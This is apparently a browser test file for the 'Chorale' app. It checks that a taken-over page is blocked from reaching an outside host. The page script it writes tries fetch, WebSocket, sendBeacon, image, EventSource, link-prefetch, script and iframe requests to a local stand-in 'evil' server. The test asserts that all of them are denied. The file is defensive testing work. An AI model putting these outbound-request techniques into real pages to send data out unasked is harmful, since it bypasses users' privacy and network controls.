import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listConnections } from '../../src-main/catalog/connections.ts';
import { type Server, serve } from '../../src-main/engine/serve.ts';
import { startTestEngine, type TestEngine } from '../engine/engine-for-tests.ts';
import { hasBrowser, launchBrowser } from './browser.ts';

describe.skipIf(!hasBrowser)('a page that was taken over, in a browser (skipped where there is none)', () => {
  let test: TestEngine;
  let server: Server;
  let browser: Browser;
  let folder: string;
  const reached: string[] = [];
  const elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end();
  });
  let evil: string;

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'chorale-violations-'));
    mkdirSync(join(folder, 'assets'));
    writeFileSync(
      join(folder, 'index.html'),
      '<!doctype html><title>Chorale</title><script src="/assets/page.js"></script>',
    );
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    evil = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const attempts = `
      fetch('http://${evil}/fetch').catch(() => {});
      try { new WebSocket('ws://${evil}/socket'); } catch {}
      navigator.sendBeacon('http://${evil}/beacon', 'x');
      new Image().src = 'http://${evil}/image';
      new EventSource('http://${evil}/events');
      for (const rel of ['stylesheet', 'prefetch', 'preload']) {
        document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: 'http://${evil}/' + rel }));
      }
      document.head.append(Object.assign(document.createElement('script'), { src: 'http://${evil}/script' }));
      document.body?.append(Object.assign(document.createElement('iframe'), { src: 'http://${evil}/frame' }));
      document.title = 'tried';
    `;
    writeFileSync(join(folder, 'assets', 'page.js'), `addEventListener('load', () => {${attempts}});`);
    test = await startTestEngine({ prepared: true });
    await test.engine.context.access.unlockRemembered();
    server = await serve({ context: test.engine.context, folder });
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await test?.close();
    elsewhere.closeAllConnections();
    elsewhere.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('reaches nobody, and each host that it tried is in the list of connections as refused', async () => {
    const page = await browser.newPage();
    const said: string[] = [];
    page.on('console', (message) => said.push(message.text()));
    await page.goto(server.address);
    await page.waitForFunction(() => document.title === 'tried');
    const rows = () => listConnections(test.engine.context.workspace().catalog, { limit: 100 }).connections;
    while (!rows().some(({ calls }) => calls >= 5)) await new Promise((resolve) => setTimeout(resolve, 50));
    expect(rows()).toMatchObject([{ host: evil, purpose: 'page', outcome: 'denied', bytesOut: 0, reason: 'page' }]);
    expect(reached).toEqual([]);
    expect(said.filter((text) => /Unrecognized|invalid/i.test(text))).toEqual([]);
    await page.close();
  });
});
